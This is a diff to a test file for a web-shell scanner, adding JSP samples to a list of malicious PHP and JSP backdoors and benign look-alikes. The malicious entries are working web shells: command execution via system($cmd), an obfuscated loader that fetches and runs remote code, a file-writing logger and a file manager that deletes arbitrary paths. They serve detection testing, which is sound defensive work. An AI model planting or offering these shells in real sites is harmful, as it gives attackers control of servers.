@@ -36,6 +36,8 @@ const MALICIOUS: [string, string, string][] = [
   ['PHP 4\'s long request arrays extracted, then a command run', '/var/www/html/gg.php', `<?php\nif (!empty($HTTP_POST_VARS)) extract($HTTP_POST_VARS);\nif (!empty($cmd)) { echo '<pre>'; system($cmd); echo '</pre>'; }\n`],
   ['names made by pack(\'c*\') kept in $GLOBALS, fetched code made a function and called', '/var/www/html/hh.php', `<?php\n$k = pack('c*', 0x70, 0x61, 99, 107);\n$GLOBALS = array(\n  'c' => $k('c*', 99, 97, 108, 108, 95, 117, 115, 101, 114, 95, 102, 117, 110, 99),\n  'f' => $k('c*', 102, 105, 108, 101, 95, 103, 101, 116, 95, 99, 111, 110, 116, 101, 110, 116, 115),\n  'e' => $k('c*', 99, 114, 101, 97, 116, 101, 95, 102, 117, 110, 99, 116, 105, 111, 110),\n  'u' => 'http://example.invalid/p.txt'\n);\n$GLOBALS['c']($GLOBALS['e'](null, $GLOBALS['f']($GLOBALS['u'])));\n`],
   ['a callback named by a header\'s piece and a name\'s tail, given request input', '/var/www/html/ii.php', `<?php\n$h = substr($_SERVER['HTTP_REFERER'], -7, -4);\nforward_static_call_array($h . 'ert', array($_REQUEST['z']));\n`],
+  ['JSP logging the request\'s text into a file the request names, through java.util.logging', '/var/lib/tomcat/webapps/ROOT/oo.jsp', `<%java.util.logging.Logger g = java.util.logging.Logger.getLogger("x"); java.util.logging.FileHandler fh = new java.util.logging.FileHandler(application.getRealPath("/") + request.getParameter("n"), true); g.addHandler(fh); g.info(request.getParameter("t"));%>`],
+  ['a JSP file manager whose class Shell lists, reads and deletes any path from the process\'s directory', '/var/lib/tomcat/webapps/ROOT/pp.jsp', `<%@ page import="java.io.*,java.util.*" %>\n<%! public static class Shell {\n  HttpServletRequest req; Shell(HttpServletRequest r) { req = r; }\n  String getParam(String n, String d) { String v = req.getParameter(n); return v == null ? d : v; }\n  String home() { return System.getProperty("user.dir", "/"); }\n  List<String> list() { List<String> o = new ArrayList<String>(); File[] fs = new File(getParam("path", home())).listFiles(); if (fs != null) for (File f : fs) o.add(f.getName()); return o; }\n  boolean remove() { return new File(getParam("path", "")).delete(); }\n} %>\n<% Shell s = new Shell(request); if ("rm".equals(request.getParameter("a"))) out.print(s.remove()); else out.print(s.list()); %>`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -59,6 +61,8 @@ const LOOKALIKES: [string, string, string][] = [
   ['an old form handler extracting $HTTP_POST_VARS and printing escaped', '/var/www/html/ll.php', `<?php\nextract($HTTP_POST_VARS);\necho 'Thanks, ' . htmlspecialchars($name) . '. We will write to ' . htmlspecialchars($email) . '.';\n`],
   ['a PNG signature made by pack(\'C*\')', '/var/www/html/mm.php', `<?php\n$sig = pack('C*', 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A);\nif (substr(file_get_contents($_FILES['f']['tmp_name']), 0, 8) !== $sig) die('not a PNG');\n`],
   ['a module dispatcher calling the module\'s item handler with the request\'s id', '/var/www/html/nn.php', `<?php\n$module = preg_replace('/[^a-z]/', '', $_GET['m']);\ncall_user_func($module . '_item', $_GET['id']);\n`],
+  ['JSP writing an audit line of the request to a fixed log file', '/var/lib/tomcat/webapps/ROOT/qq.jsp', `<%java.util.logging.Logger g = java.util.logging.Logger.getLogger("audit"); java.util.logging.FileHandler fh = new java.util.logging.FileHandler("/var/log/app/audit.log", true); g.addHandler(fh); g.info("login " + request.getParameter("user"));%>`],
+  ['a JSP page showing the files of the application\'s directory', '/var/lib/tomcat/webapps/ROOT/rr.jsp', `<%@ page import="java.io.*" %>\n<% File[] fs = new File(System.getProperty("user.dir")).listFiles(); if (fs != null) for (File f : fs) out.println(f.getName()); %>`],
 ];
 
 describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
@@ -68,7 +72,7 @@ describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 22));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 24));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -76,5 +80,5 @@ describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 20));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 22));
 });
